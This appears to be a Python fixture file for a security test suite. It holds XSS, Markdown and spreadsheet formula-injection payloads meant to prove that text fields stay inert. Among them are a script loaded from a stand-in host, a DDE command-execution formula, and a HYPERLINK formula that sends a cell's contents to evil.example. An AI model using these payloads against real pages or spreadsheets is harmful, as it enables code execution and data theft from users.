"""Hostile strings the attack suite stores in every text field it can reach.

Each XSS payload is built to run code if it reached a page unescaped, unsanitised or in the wrong context
(text, quoted and unquoted attributes, URLs, inline SVG, CSS), including mutation-XSS shapes that only turn
into markup after a parser round trip, and already-escaped text that a double unescape would revive.
"""

from __future__ import annotations

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '"><script>alert(document.domain)</script>',
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",  # unclosed tag
    '<svg onload="alert(1)">',
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="  JaVaScRiPt:alert(1)">click</a>',
    "<a href=&#106;avascript:alert(1)>entity</a>",
    "javascript:alert(1)",
    '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<div style="width: expression(alert(1))">css</div>',
    '<div style="background:url(javascript:alert(1))">css</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<form><button formaction="javascript:alert(1)">go</button></form>',
    '<details open ontoggle="alert(1)">',
    '<body onload="alert(1)">',
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    '<base href="https://evil.example/">',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "{{ 7*7 }}{% debug %}${7*7}",  # template injection: must come back literally
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    "\u202egnp.exe<script>alert(1)</script>",
]

# The same payloads in the places a Markdown renderer would turn into links and images (there is none
# today: every text field is plain text; if one is added, these must still come out inert).
MARKDOWN = [
    "[click](javascript:alert(1))",
    "![x](javascript:alert(1))",
    '[x](https://example.com "onmouseover=alert(1)")',
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[click][x]",
]

CORPUS = XSS + MARKDOWN
ALL_IN_ONE = "\n".join(CORPUS)

# Text a spreadsheet would run as a formula (or a DDE command) if it began a cell unprotected; ASVS 5.0
# V1.2.10 names = + - @ tab and NUL, and a carriage return starts a formula in some programs too. (A NUL
# cannot be stored in PostgreSQL: test_formula_injection.py gives it to the exporters directly.)
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?leak="&A1,"詳細")',
    "-5",  # text that looks like a negative number is still text (and stays as typed)
]
